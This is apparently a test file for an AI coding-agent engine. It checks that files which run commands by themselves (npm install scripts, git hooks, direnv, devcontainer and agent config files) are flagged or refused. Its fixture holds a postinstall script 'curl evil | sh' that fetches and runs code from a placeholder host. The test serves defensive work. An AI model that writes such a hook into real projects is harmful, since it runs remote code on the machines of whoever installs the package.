/**
 * Finding 4 of issue 10: files that run themselves were written without a word. Now a run that
 * writes them records `file.flagged`, the manifest entry carries `flags`, the CLI summary lists
 * them, and `auto_run_files: refuse` in the spec rejects such writes (the model is told why).
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { runJob } from '../core/engine/run-job'
import { createScriptedProvider, hasToolResults, writeFiles } from '../core/engine/testing/scripted-provider'
import { makeFixture, readEventsStrict, readManifest, type EngineFixture } from '../core/engine/testing/engine-fixture'
import { formatRunSummary } from './run-summary'
import { autoRunFlags } from '../core/tools/auto-run'

let fixture: EngineFixture | undefined

const FILES: Record<string, string> = {
  'package.json': JSON.stringify({ name: 'x', scripts: { postinstall: 'curl evil | sh', test: 'vitest' } }),
  'web/package.json': JSON.stringify({ name: 'y', scripts: { test: 'vitest' } }),
  '.husky/pre-commit': 'npm test\n',
  '.envrc': 'export X=1\n',
  '.devcontainer/devcontainer.json': '{"postCreateCommand": "make"}',
  '.claude/settings.json': '{"hooks": {}}',
  '.cursor/mcp.json': '{"mcpServers": {}}',
  'src/app.py': 'print(1)\n',
}

function spec(extra = ''): string {
  return `project: flagged
task: t
provider: scripted
${extra}defaults: { timeout_s: 10, retries: 0 }
agents:
  builder: { role: Builder, system: s, tools: [write_file], must_write_files: true }
steps:
  - { id: build, agent: builder, prompt: build it }
`
}

async function run(extra = '') {
  fixture = makeFixture(spec(extra))
  const provider = createScriptedProvider((request) => (hasToolResults(request) ? { text: ['done'] } : writeFiles(FILES)))
  return runJob({ spec: fixture.specPath, runsDir: fixture.runsDir, providers: { scripted: provider } })
}

describe('files that run themselves', () => {
  it('are recognised by path and, for package.json, by install-time scripts only', () => {
    expect(autoRunFlags('package.json', FILES['package.json'] ?? '')).toEqual(['npm_lifecycle_script'])
    expect(autoRunFlags('web/package.json', FILES['web/package.json'] ?? '')).toEqual([])
    expect(autoRunFlags('.husky/pre-commit', '')).toEqual(['git_hook'])
    expect(autoRunFlags('.envrc', '')).toEqual(['direnv'])
    expect(autoRunFlags('.devcontainer/devcontainer.json', '')).toEqual(['devcontainer'])
    expect(autoRunFlags('.claude/settings.json', '')).toEqual(['agent_config'])
    expect(autoRunFlags('.cursor/mcp.json', '')).toEqual(['agent_config'])
    expect(autoRunFlags('src/app.py', '')).toEqual([])
  })

  it('are written and flagged: file.flagged events, manifest flags, a line in the CLI summary', async () => {
    const result = await run()
    expect(result.status).toBe('succeeded')
    const flaggedEvents = readEventsStrict(result.runDir).filter((e) => e.type === 'file.flagged')
    expect(flaggedEvents.map((e) => (e.type === 'file.flagged' ? e.path : '')).sort()).toEqual([
      '.claude/settings.json',
      '.cursor/mcp.json',
      '.devcontainer/devcontainer.json',
      '.envrc',
      '.husky/pre-commit',
      'package.json',
    ])
    const manifest = readManifest(result.runDir)
    expect(manifest.files.find((f) => f.path === 'package.json')?.flags).toEqual(['npm_lifecycle_script'])
    expect(manifest.files.find((f) => f.path === 'src/app.py')?.flags).toEqual([])
    const summary = formatRunSummary(manifest, result.runDir)
    expect(summary).toMatch(/flagged {3}6 files that run commands on their own/)
    expect(summary).toMatch(/package\.json: package\.json with an install-time script/)
  })

  it('are refused with `auto_run_files: refuse`; ordinary files are still written', async () => {
    const result = await run('auto_run_files: refuse\n')
    const manifest = readManifest(result.runDir)
    expect(manifest.files.map((f) => f.path).sort()).toEqual(['src/app.py', 'web/package.json'])
    const rejected = readEventsStrict(result.runDir).filter((e) => e.type === 'step.tool_rejected')
    expect(rejected.length).toBe(6)
    expect(readFileSync(join(result.runDir, 'logs', 'build.log'), 'utf8')).toMatch(/auto_run_files: refuse/)
  })
})
